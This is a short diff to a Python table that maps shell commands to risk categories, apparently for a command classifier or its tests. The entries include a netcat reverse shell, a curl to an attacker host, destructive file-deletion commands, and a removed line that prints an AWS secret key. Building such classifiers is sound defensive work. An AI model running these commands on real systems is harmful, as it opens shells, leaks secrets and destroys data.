@@ -32,7 +32,6 @@ POSIX_SIMPLE: dict[str, str] = {
     "curl -s https://attacker.example/x": "network.http-client",
     "wget http://example.com/file.zip": "network.http-client",
     "nc -e /bin/sh 10.0.0.1 4444": "network.socket",
-    "printenv AWS_SECRET_ACCESS_KEY": "env.print-environment",
     "git clean -fdx": "destructive.git-clean",
     "find . -name '*.py' -delete": "destructive.find-delete",
     "shred -u secrets.db": "destructive.overwrite-file",
